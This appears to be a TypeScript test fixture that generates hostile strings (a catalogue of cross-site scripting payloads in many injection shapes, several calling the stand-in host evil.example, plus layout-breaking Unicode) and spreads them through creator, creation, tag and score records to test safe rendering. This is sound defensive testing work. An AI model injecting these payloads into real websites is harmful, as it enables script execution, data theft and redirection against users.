// Strings of people who try everything: markup that would run code, and what breaks layouts.

const payloads = ['alert(1)', 'fetch("//evil.example")', "document.title='x'", 'location="javascript:alert(1)"']
/** CODE stands for each payload. */
const shapes = [
  '<script>CODE</script>',
  '</script><script>CODE</script>',
  "<img src=x onerror='CODE'>",
  `"><svg onload='CODE'>`,
  "' onmouseover='CODE' x='",
  '" autofocus onfocus="CODE" x="',
  '<iframe srcdoc="<script>CODE</script>"></iframe>',
  '<a href="javascript:CODE">x</a>',
  '</title></textarea></style><script>CODE</script>',
  '<!--<script>CODE//-->',
  '<math><mi//xlink:href="data:x,<script>CODE</script>">',
  "<details open ontoggle='CODE'>",
  "<style>@import'//evil.example';*{display:none}</style>CODE",
  '<meta http-equiv=refresh content="0;url=javascript:CODE">',
  '<base href="//evil.example/">CODE',
  '<form action="//evil.example"><button>CODE',
  "{{constructor.constructor('CODE')()}}",
  '$' + '{CODE}',
  "<svg><animate onbegin='CODE' attributeName=x dur=1s>",
  "<video><source onerror='CODE'></video>",
  '<object data="javascript:CODE"></object>',
  '<link rel=stylesheet href="//evil.example/CODE">',
  ']]><script>CODE</script>',
  '&lt;script&gt;CODE&lt;/script&gt;',
  '\\u003cscript\\u003eCODE\\u003c/script\\u003e',
  '%3Cscript%3ECODE%3C/script%3E',
  "<x onclick='CODE' tabindex=1 id=q>",
]
/** What breaks layouts rather than rules. */
const odd = [
  '\u202Eright to left for ever',
  '\u2066\u2067\u2068 isolates that never end',
  `Z${'\u0300\u0301\u0302\u0303'.repeat(15)}algo`,
  'W'.repeat(90),
  '👩‍👩‍👧‍👦'.repeat(8),
  '﷽'.repeat(20),
  'a\u200B'.repeat(40),
  '   .   ',
  'ⓗⓔⓛⓛⓞ'.repeat(10),
  'https://example.org/'.repeat(4),
]
const hostile = [...shapes.flatMap(shape => payloads.map(code => shape.replaceAll('CODE', () => code))), ...odd]
export const hostileStrings = [...hostile, ...hostile.map(text => `${text} ${text}`)].map(text =>
  text.slice(0, 100).trim(),
)

export const perCreator = 40
/** Each string as title, summary, texts and labels of a creation; some as names of creators. */
export const hostileStringRecords = (): unknown[] =>
  hostileStrings.flatMap((text, i) => {
    const handle = `h${Math.floor(i / perCreator)}`
    const creation = {
      type: 'creation',
      handle,
      slug: `s${i}`,
      title: text,
      summary: text,
      description: text,
      instructions: text,
      category: `c${i % 8}`,
      tags: [`t${i % 60}`],
      kind: 'game',
      featured: i % 9 === 0,
      translations: { fr: { title: text, summary: text } },
      publishedAt: '2026-02-01T10:00:00Z',
      ...(i % perCreator === 0 ? {} : { remixOf: { handle, slug: `s${i - 1}` } }),
    }
    const labels = [
      { type: 'tag', key: `t${i % 60}`, labels: { en: text.slice(0, 80).trim() } },
      { type: 'category', slug: `c${i % 8}`, labels: { en: text.slice(0, 80).trim() } },
      { type: 'score', handle, slug: `s${i}`, player: handle, score: i, unit: text.slice(0, 20).trim() || 'x' },
    ]
    const links = [{ label: text.slice(0, 40).trim() || 'x', url: 'https://example.org/' }]
    const creator = { type: 'creator', handle, displayName: text.slice(0, 60).trim() || 'x', bio: text, links }
    return i % perCreator === 0 ? [creator, creation, ...labels] : [creation, ...labels]
  })
